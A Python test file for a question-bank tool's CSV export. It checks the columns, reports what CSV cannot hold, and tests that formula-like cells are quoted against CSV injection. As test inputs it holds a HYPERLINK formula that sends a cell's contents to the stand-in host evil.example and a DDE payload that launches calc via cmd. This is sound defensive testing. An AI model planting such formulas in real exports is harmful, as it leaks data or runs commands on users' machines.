"""`qb export csv`: the columns `qb import csv` reads; what they cannot hold
is reported (the round trip itself is in test_roundtrip.py)."""

from __future__ import annotations

import csv
from pathlib import Path

from conftest import EXAMPLE_BANK
from interop import export_example, run_cli
from questionbank.bank import load_bank
from questionbank.importers.csvfile import FIELDS


def test_columns_are_the_import_columns(tmp_path: Path) -> None:
    out = export_example("csv", tmp_path / "bank.csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM, for spreadsheets
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert set(rows[0]) == set(FIELDS)
    items = load_bank(EXAMPLE_BANK).items
    assert [r["id"] for r in rows] == [i.id for i in items]
    multiple = next(i for i in items if i.type == "multiple")
    row = next(r for r in rows if r["id"] == multiple.id)
    assert row["answer"] == ",".join("ABCDEF"[i] for i, o in enumerate(multiple.options) if o.correct)


def test_what_csv_cannot_hold_is_reported(bank, tmp_path: Path) -> None:
    options = "\n".join(f"      - {{text: 'Option {n}'{', correct: true' if n == 1 else ''}}}" for n in range(1, 8))
    root = bank({"a.yaml": f"""\
items:
  - id: seven
    type: single
    stem: Which of seven?
    options:
{options}
  - id: open-one
    type: open
    stem: Explain.
    answer: Because.
    tags: ["a,b"]
"""})
    result = run_cli("export", "csv", str(root), "-o", str(tmp_path / "out.csv"))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "csv: seven: skipped: 7 options, the columns hold 6 (A-F)" in result.stderr
    assert "csv: open-one: the model answer of an open item is not written" in result.stderr
    assert "csv: open-one: tag 'a,b' holds a comma or semicolon" in result.stderr
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert [r["id"] for r in csv.DictReader(handle)] == ["open-one"]


def test_cli_offers_every_registered_format() -> None:
    from questionbank.cli import export_
    from questionbank.exporters import EXPORTERS

    fmt = next(p for p in export_.params if p.name == "fmt")
    assert sorted(fmt.type.choices) == sorted(EXPORTERS)


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
            "\tx", "\rx"]


def test_cells_a_spreadsheet_would_run_get_a_quote(bank, tmp_path: Path) -> None:
    """Issue 10: formulas in stems and options are written as text (OWASP:
    a leading '), and the import of qb's own export gives them back."""
    from questionbank.importers.csvfile import import_csv_files

    options = "\n".join(f"      - {{text: {text!r}{', correct: true' if n == 0 else ''}}}".replace("\\t", "\\\\t")
                        for n, text in enumerate(["'=quoted", "''x", "plain 'quote"]))
    root = bank({"a.yaml": "items:\n  - id: f\n    type: single\n    stem: '=1+1 is what?'\n"
                           f"    explanation: '@here'\n    options:\n{options}\n"})
    result = run_cli("export", "csv", str(root), "-o", str(tmp_path / "out.csv"))
    assert result.exit_code == 0, result.stdout + result.stderr
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["question"] == "'=1+1 is what?" and row["explanation"] == "'@here"
    assert [row["A"], row["B"], row["C"]] == ["''=quoted", "'''x", "plain 'quote"]
    import_csv_files([tmp_path / "out.csv"], tmp_path / "back", {})
    item = load_bank(tmp_path / "back").items[0]
    assert item.stem == "=1+1 is what?" and item.explanation == "@here"
    assert [o.text for o in item.options] == ["'=quoted", "''x", "plain 'quote"]


def test_neutralize_and_restore() -> None:
    from questionbank.csvcell import neutralize, restore

    for text in FORMULAS + ["'=x", "''", "'", "'a", "a=b", "", "x"]:
        assert restore(neutralize(text)) == text
    assert [neutralize(t)[0] for t in FORMULAS] == ["'"] * len(FORMULAS)
    assert [neutralize(t) for t in ("'a", "a=b", "", "'")] == ["'a", "a=b", "", "'"]


def test_someone_elses_csv_keeps_its_quotes(tmp_path: Path) -> None:
    """Only a file with exactly the export's header is read as qb's own."""
    from questionbank.importers.csvfile import import_csv_files

    (tmp_path / "q.csv").write_text("question,A,B,answer\n'=not ours,'+a,b,A\n", encoding="utf-8")
    import_csv_files([tmp_path / "q.csv"], tmp_path / "back", {})
    item = load_bank(tmp_path / "back").items[0]
    assert item.stem == "'=not ours" and item.options[0].text == "'+a"


def test_key_csv_cells_that_would_run_get_a_quote(tmp_path: Path) -> None:
    """key-F.csv: only an id or domain starting with a formula character changes."""
    from questionbank.render import key_csv
    from types import SimpleNamespace as NS

    questions = [NS(number=1, answer=("A",), item=NS(id="=cmd|' /C calc'!A0", domain="-x")),
                 NS(number=2, answer=("B", "D"), item=NS(id="q2", domain="store"))]
    assert key_csv(NS(questions=questions)).decode() == (
        "number,item_id,answer,domain\n1,'=cmd|' /C calc'!A0,A,'-x\n2,q2,\"B,D\",store\n")
